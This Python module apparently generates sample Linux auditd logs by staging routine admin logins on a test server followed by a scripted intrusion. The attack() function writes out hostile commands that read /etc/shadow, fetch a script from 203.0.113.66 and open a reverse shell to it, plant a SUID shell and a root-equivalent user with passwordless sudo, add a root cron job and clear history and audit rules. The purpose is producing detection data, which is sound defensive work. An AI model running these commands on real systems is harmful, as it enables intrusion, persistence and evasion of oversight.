"""The kernel's audit records of people who log in: auditd writes what rules like those of a real server catch.

The kernel has one audit trail for all of a machine's namespaces, so this scene borrows the real machine's: only while
it lasts, only where no other auditd runs, and with rules that catch logged-in people: on a build machine none but the
scene's. Its machine shares the process numbers of the real one, as the kernel talks of audit only to those that do.
"""

from __future__ import annotations

import re
import time
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

from docs.samples.recording import hosts
from docs.samples.recording.hosts import by_key, by_password, sudo
from docs.samples.recording.machine import Missing
from docs.samples.recording.recordings import Recording

if TYPE_CHECKING:
    from collections.abc import Iterator

    from docs.samples.recording.hosts import House
    from docs.samples.recording.machine import Machine, Network
    from docs.samples.recording.recordings import Logs

FILES = Path(__file__).resolve().parent / "files"
LOG = "/var/log/audit/audit.log"
# The daemon's own start names the kernel of the real machine, and its rules' loading says nothing of the scene.
OWN = re.compile(rb"^type=(DAEMON_START|DAEMON_ROTATE|SERVICE_START|SERVICE_STOP|BPF|NETFILTER_CFG|ANOM_PROMISCUOUS)\b")


def play(network: Network) -> Logs:
    """Let officials work, then let an intruder in; give what auditd wrote of both."""
    scene = hosts.house(network, owns_processes=False)
    scene.server.write("/etc/audit/auditd.conf", (FILES / "auditd.conf").read_text(encoding="utf-8"), 0o640)
    scene.server.write("/etc/audit/scene.rules", (FILES / "audit.rules").read_text(encoding="utf-8"), 0o640)
    scene.server.run("rm -rf /etc/audit/plugins.d/* && touch /etc/ld.so.preload && mkdir -p -m 700 /var/log/audit")
    with trail(scene.server):
        scene.server.start(["/usr/sbin/sshd", "-D"])
        scene.server.wait_for_port(22)
        work(scene)
        time.sleep(2)
        normal = kept(scene.server.take(LOG))
        attack(scene)
        time.sleep(2)
        return {"linux/audit-normal.log": normal, "linux/audit.log": kept(scene.server.take(LOG))}


@contextmanager
def trail(server: Machine) -> Iterator[None]:
    """Borrow the kernel's audit trail; afterwards it is as it was found: without daemon, rules and off."""
    status = server.run("auditctl -s", check=False)
    before = dict(line.split(" ", 1) for line in status.splitlines() if " " in line)
    if before.get("enabled") != "0" or (before.get("pid") != "0" and Path(f"/proc/{before.get('pid')}").exists()):
        raise Missing(f"audit: the kernel's audit trail is in use here, or not to be had: {status.strip()[:200]}")
    try:
        server.start(["auditd", "-n", "-s", "nochange"])
        server.wait('test -s /run/auditd.pid && auditctl -s | grep -q "^pid $(cat /run/auditd.pid)$"')
        server.run("auditctl -e 1 && auditctl -R /etc/audit/scene.rules")
        yield
    finally:
        pid = server.path("/run/auditd.pid")
        ended = f"kill {pid.read_text().strip()}" if pid.exists() else "true"
        limit, wait = before.get("backlog_limit", "64"), before.get("backlog_wait_time", "15000")
        off = f"auditctl -e 0; auditctl -D; auditctl -b {limit}; auditctl --backlog_wait_time {wait}"
        server.run(f"{off}; {ended}; sleep 1; auditctl -s | grep -q '^pid 0$' || sleep 2", check=False)


def kept(log: bytes) -> bytes:
    """Leave out the daemon's own start and what other programs of the real machine caused."""
    return b"".join(line for line in log.splitlines(keepends=True) if not OWN.match(line))


def work(scene: House) -> None:
    """Officials log in, look after the server and make an account."""
    by_key(scene.desk, "uptime; df -h / > /dev/null; ls /var/log")
    by_key(scene.desk, sudo("quantri01", "tail -n 2 /etc/services"))
    by_password(scene.desk, "vanhanh02", sudo("vanhanh02", "/usr/sbin/sshd -t"))
    by_password(scene.desk, "canbo03", password=hosts.MISTYPED)
    report = "'Báo cáo tuần.txt'"
    by_password(scene.desk, "canbo03", f"echo 'Tuần 47' > {report}; cat {report}; wc -l /etc/hosts")
    by_key(scene.desk, sudo("quantri01", "useradd -m -c 'Can bo moi' canbo04"))


def attack(scene: House) -> None:
    """Get in by a guessed password, look around, become root, stay, and cover it."""
    hosts.guess(scene.intruder)
    looks = ("id", "uname -r > /dev/null", "cat /etc/shadow", "find /usr/bin -perm -4000", "ss -ltn")
    by_password(scene.intruder, "canbo03", "; ".join(looks))
    by_password(scene.intruder, "canbo03", sudo("canbo03", "-l") + "; " + sudo("canbo03", "cat /etc/shadow"))
    by_key(scene.desk, "uptime")
    fetch = "curl -s -m 1 http://203.0.113.66/x.sh -o /tmp/.x; chmod 777 /tmp"
    by_password(scene.intruder, "canbo03", f"{fetch}; bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'")
    takeover = (
        "bash -c 'cat /etc/shadow > /tmp/.s; cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b'",
        "useradd -o -u 0 -g 0 -M -s /bin/bash hotro",
        "sh -c 'echo \"hotro ALL=(ALL) NOPASSWD: ALL\" >> /etc/sudoers'",
        "sh -c 'echo \"* * * * * root /tmp/.x\" > /etc/cron.d/cap-nhat'",
        "sh -c 'echo /tmp/.x.so >> /etc/ld.so.preload; : > /etc/ld.so.preload'",
        "sh -c 'touch /var/log/cu.log; rm -f /var/log/cu.log; history -c'",
        "auditctl -D",
    )
    by_password(scene.intruder, "quantri01", "; ".join(sudo("quantri01", one) for one in takeover))


RECORDINGS = (
    Recording(
        "audit",
        {**hosts.PROGRAMS, "auditd": "auditd", "auditctl": "auditd"},
        ("linux/audit-normal.log", "linux/audit.log"),
        play,
    ),
)
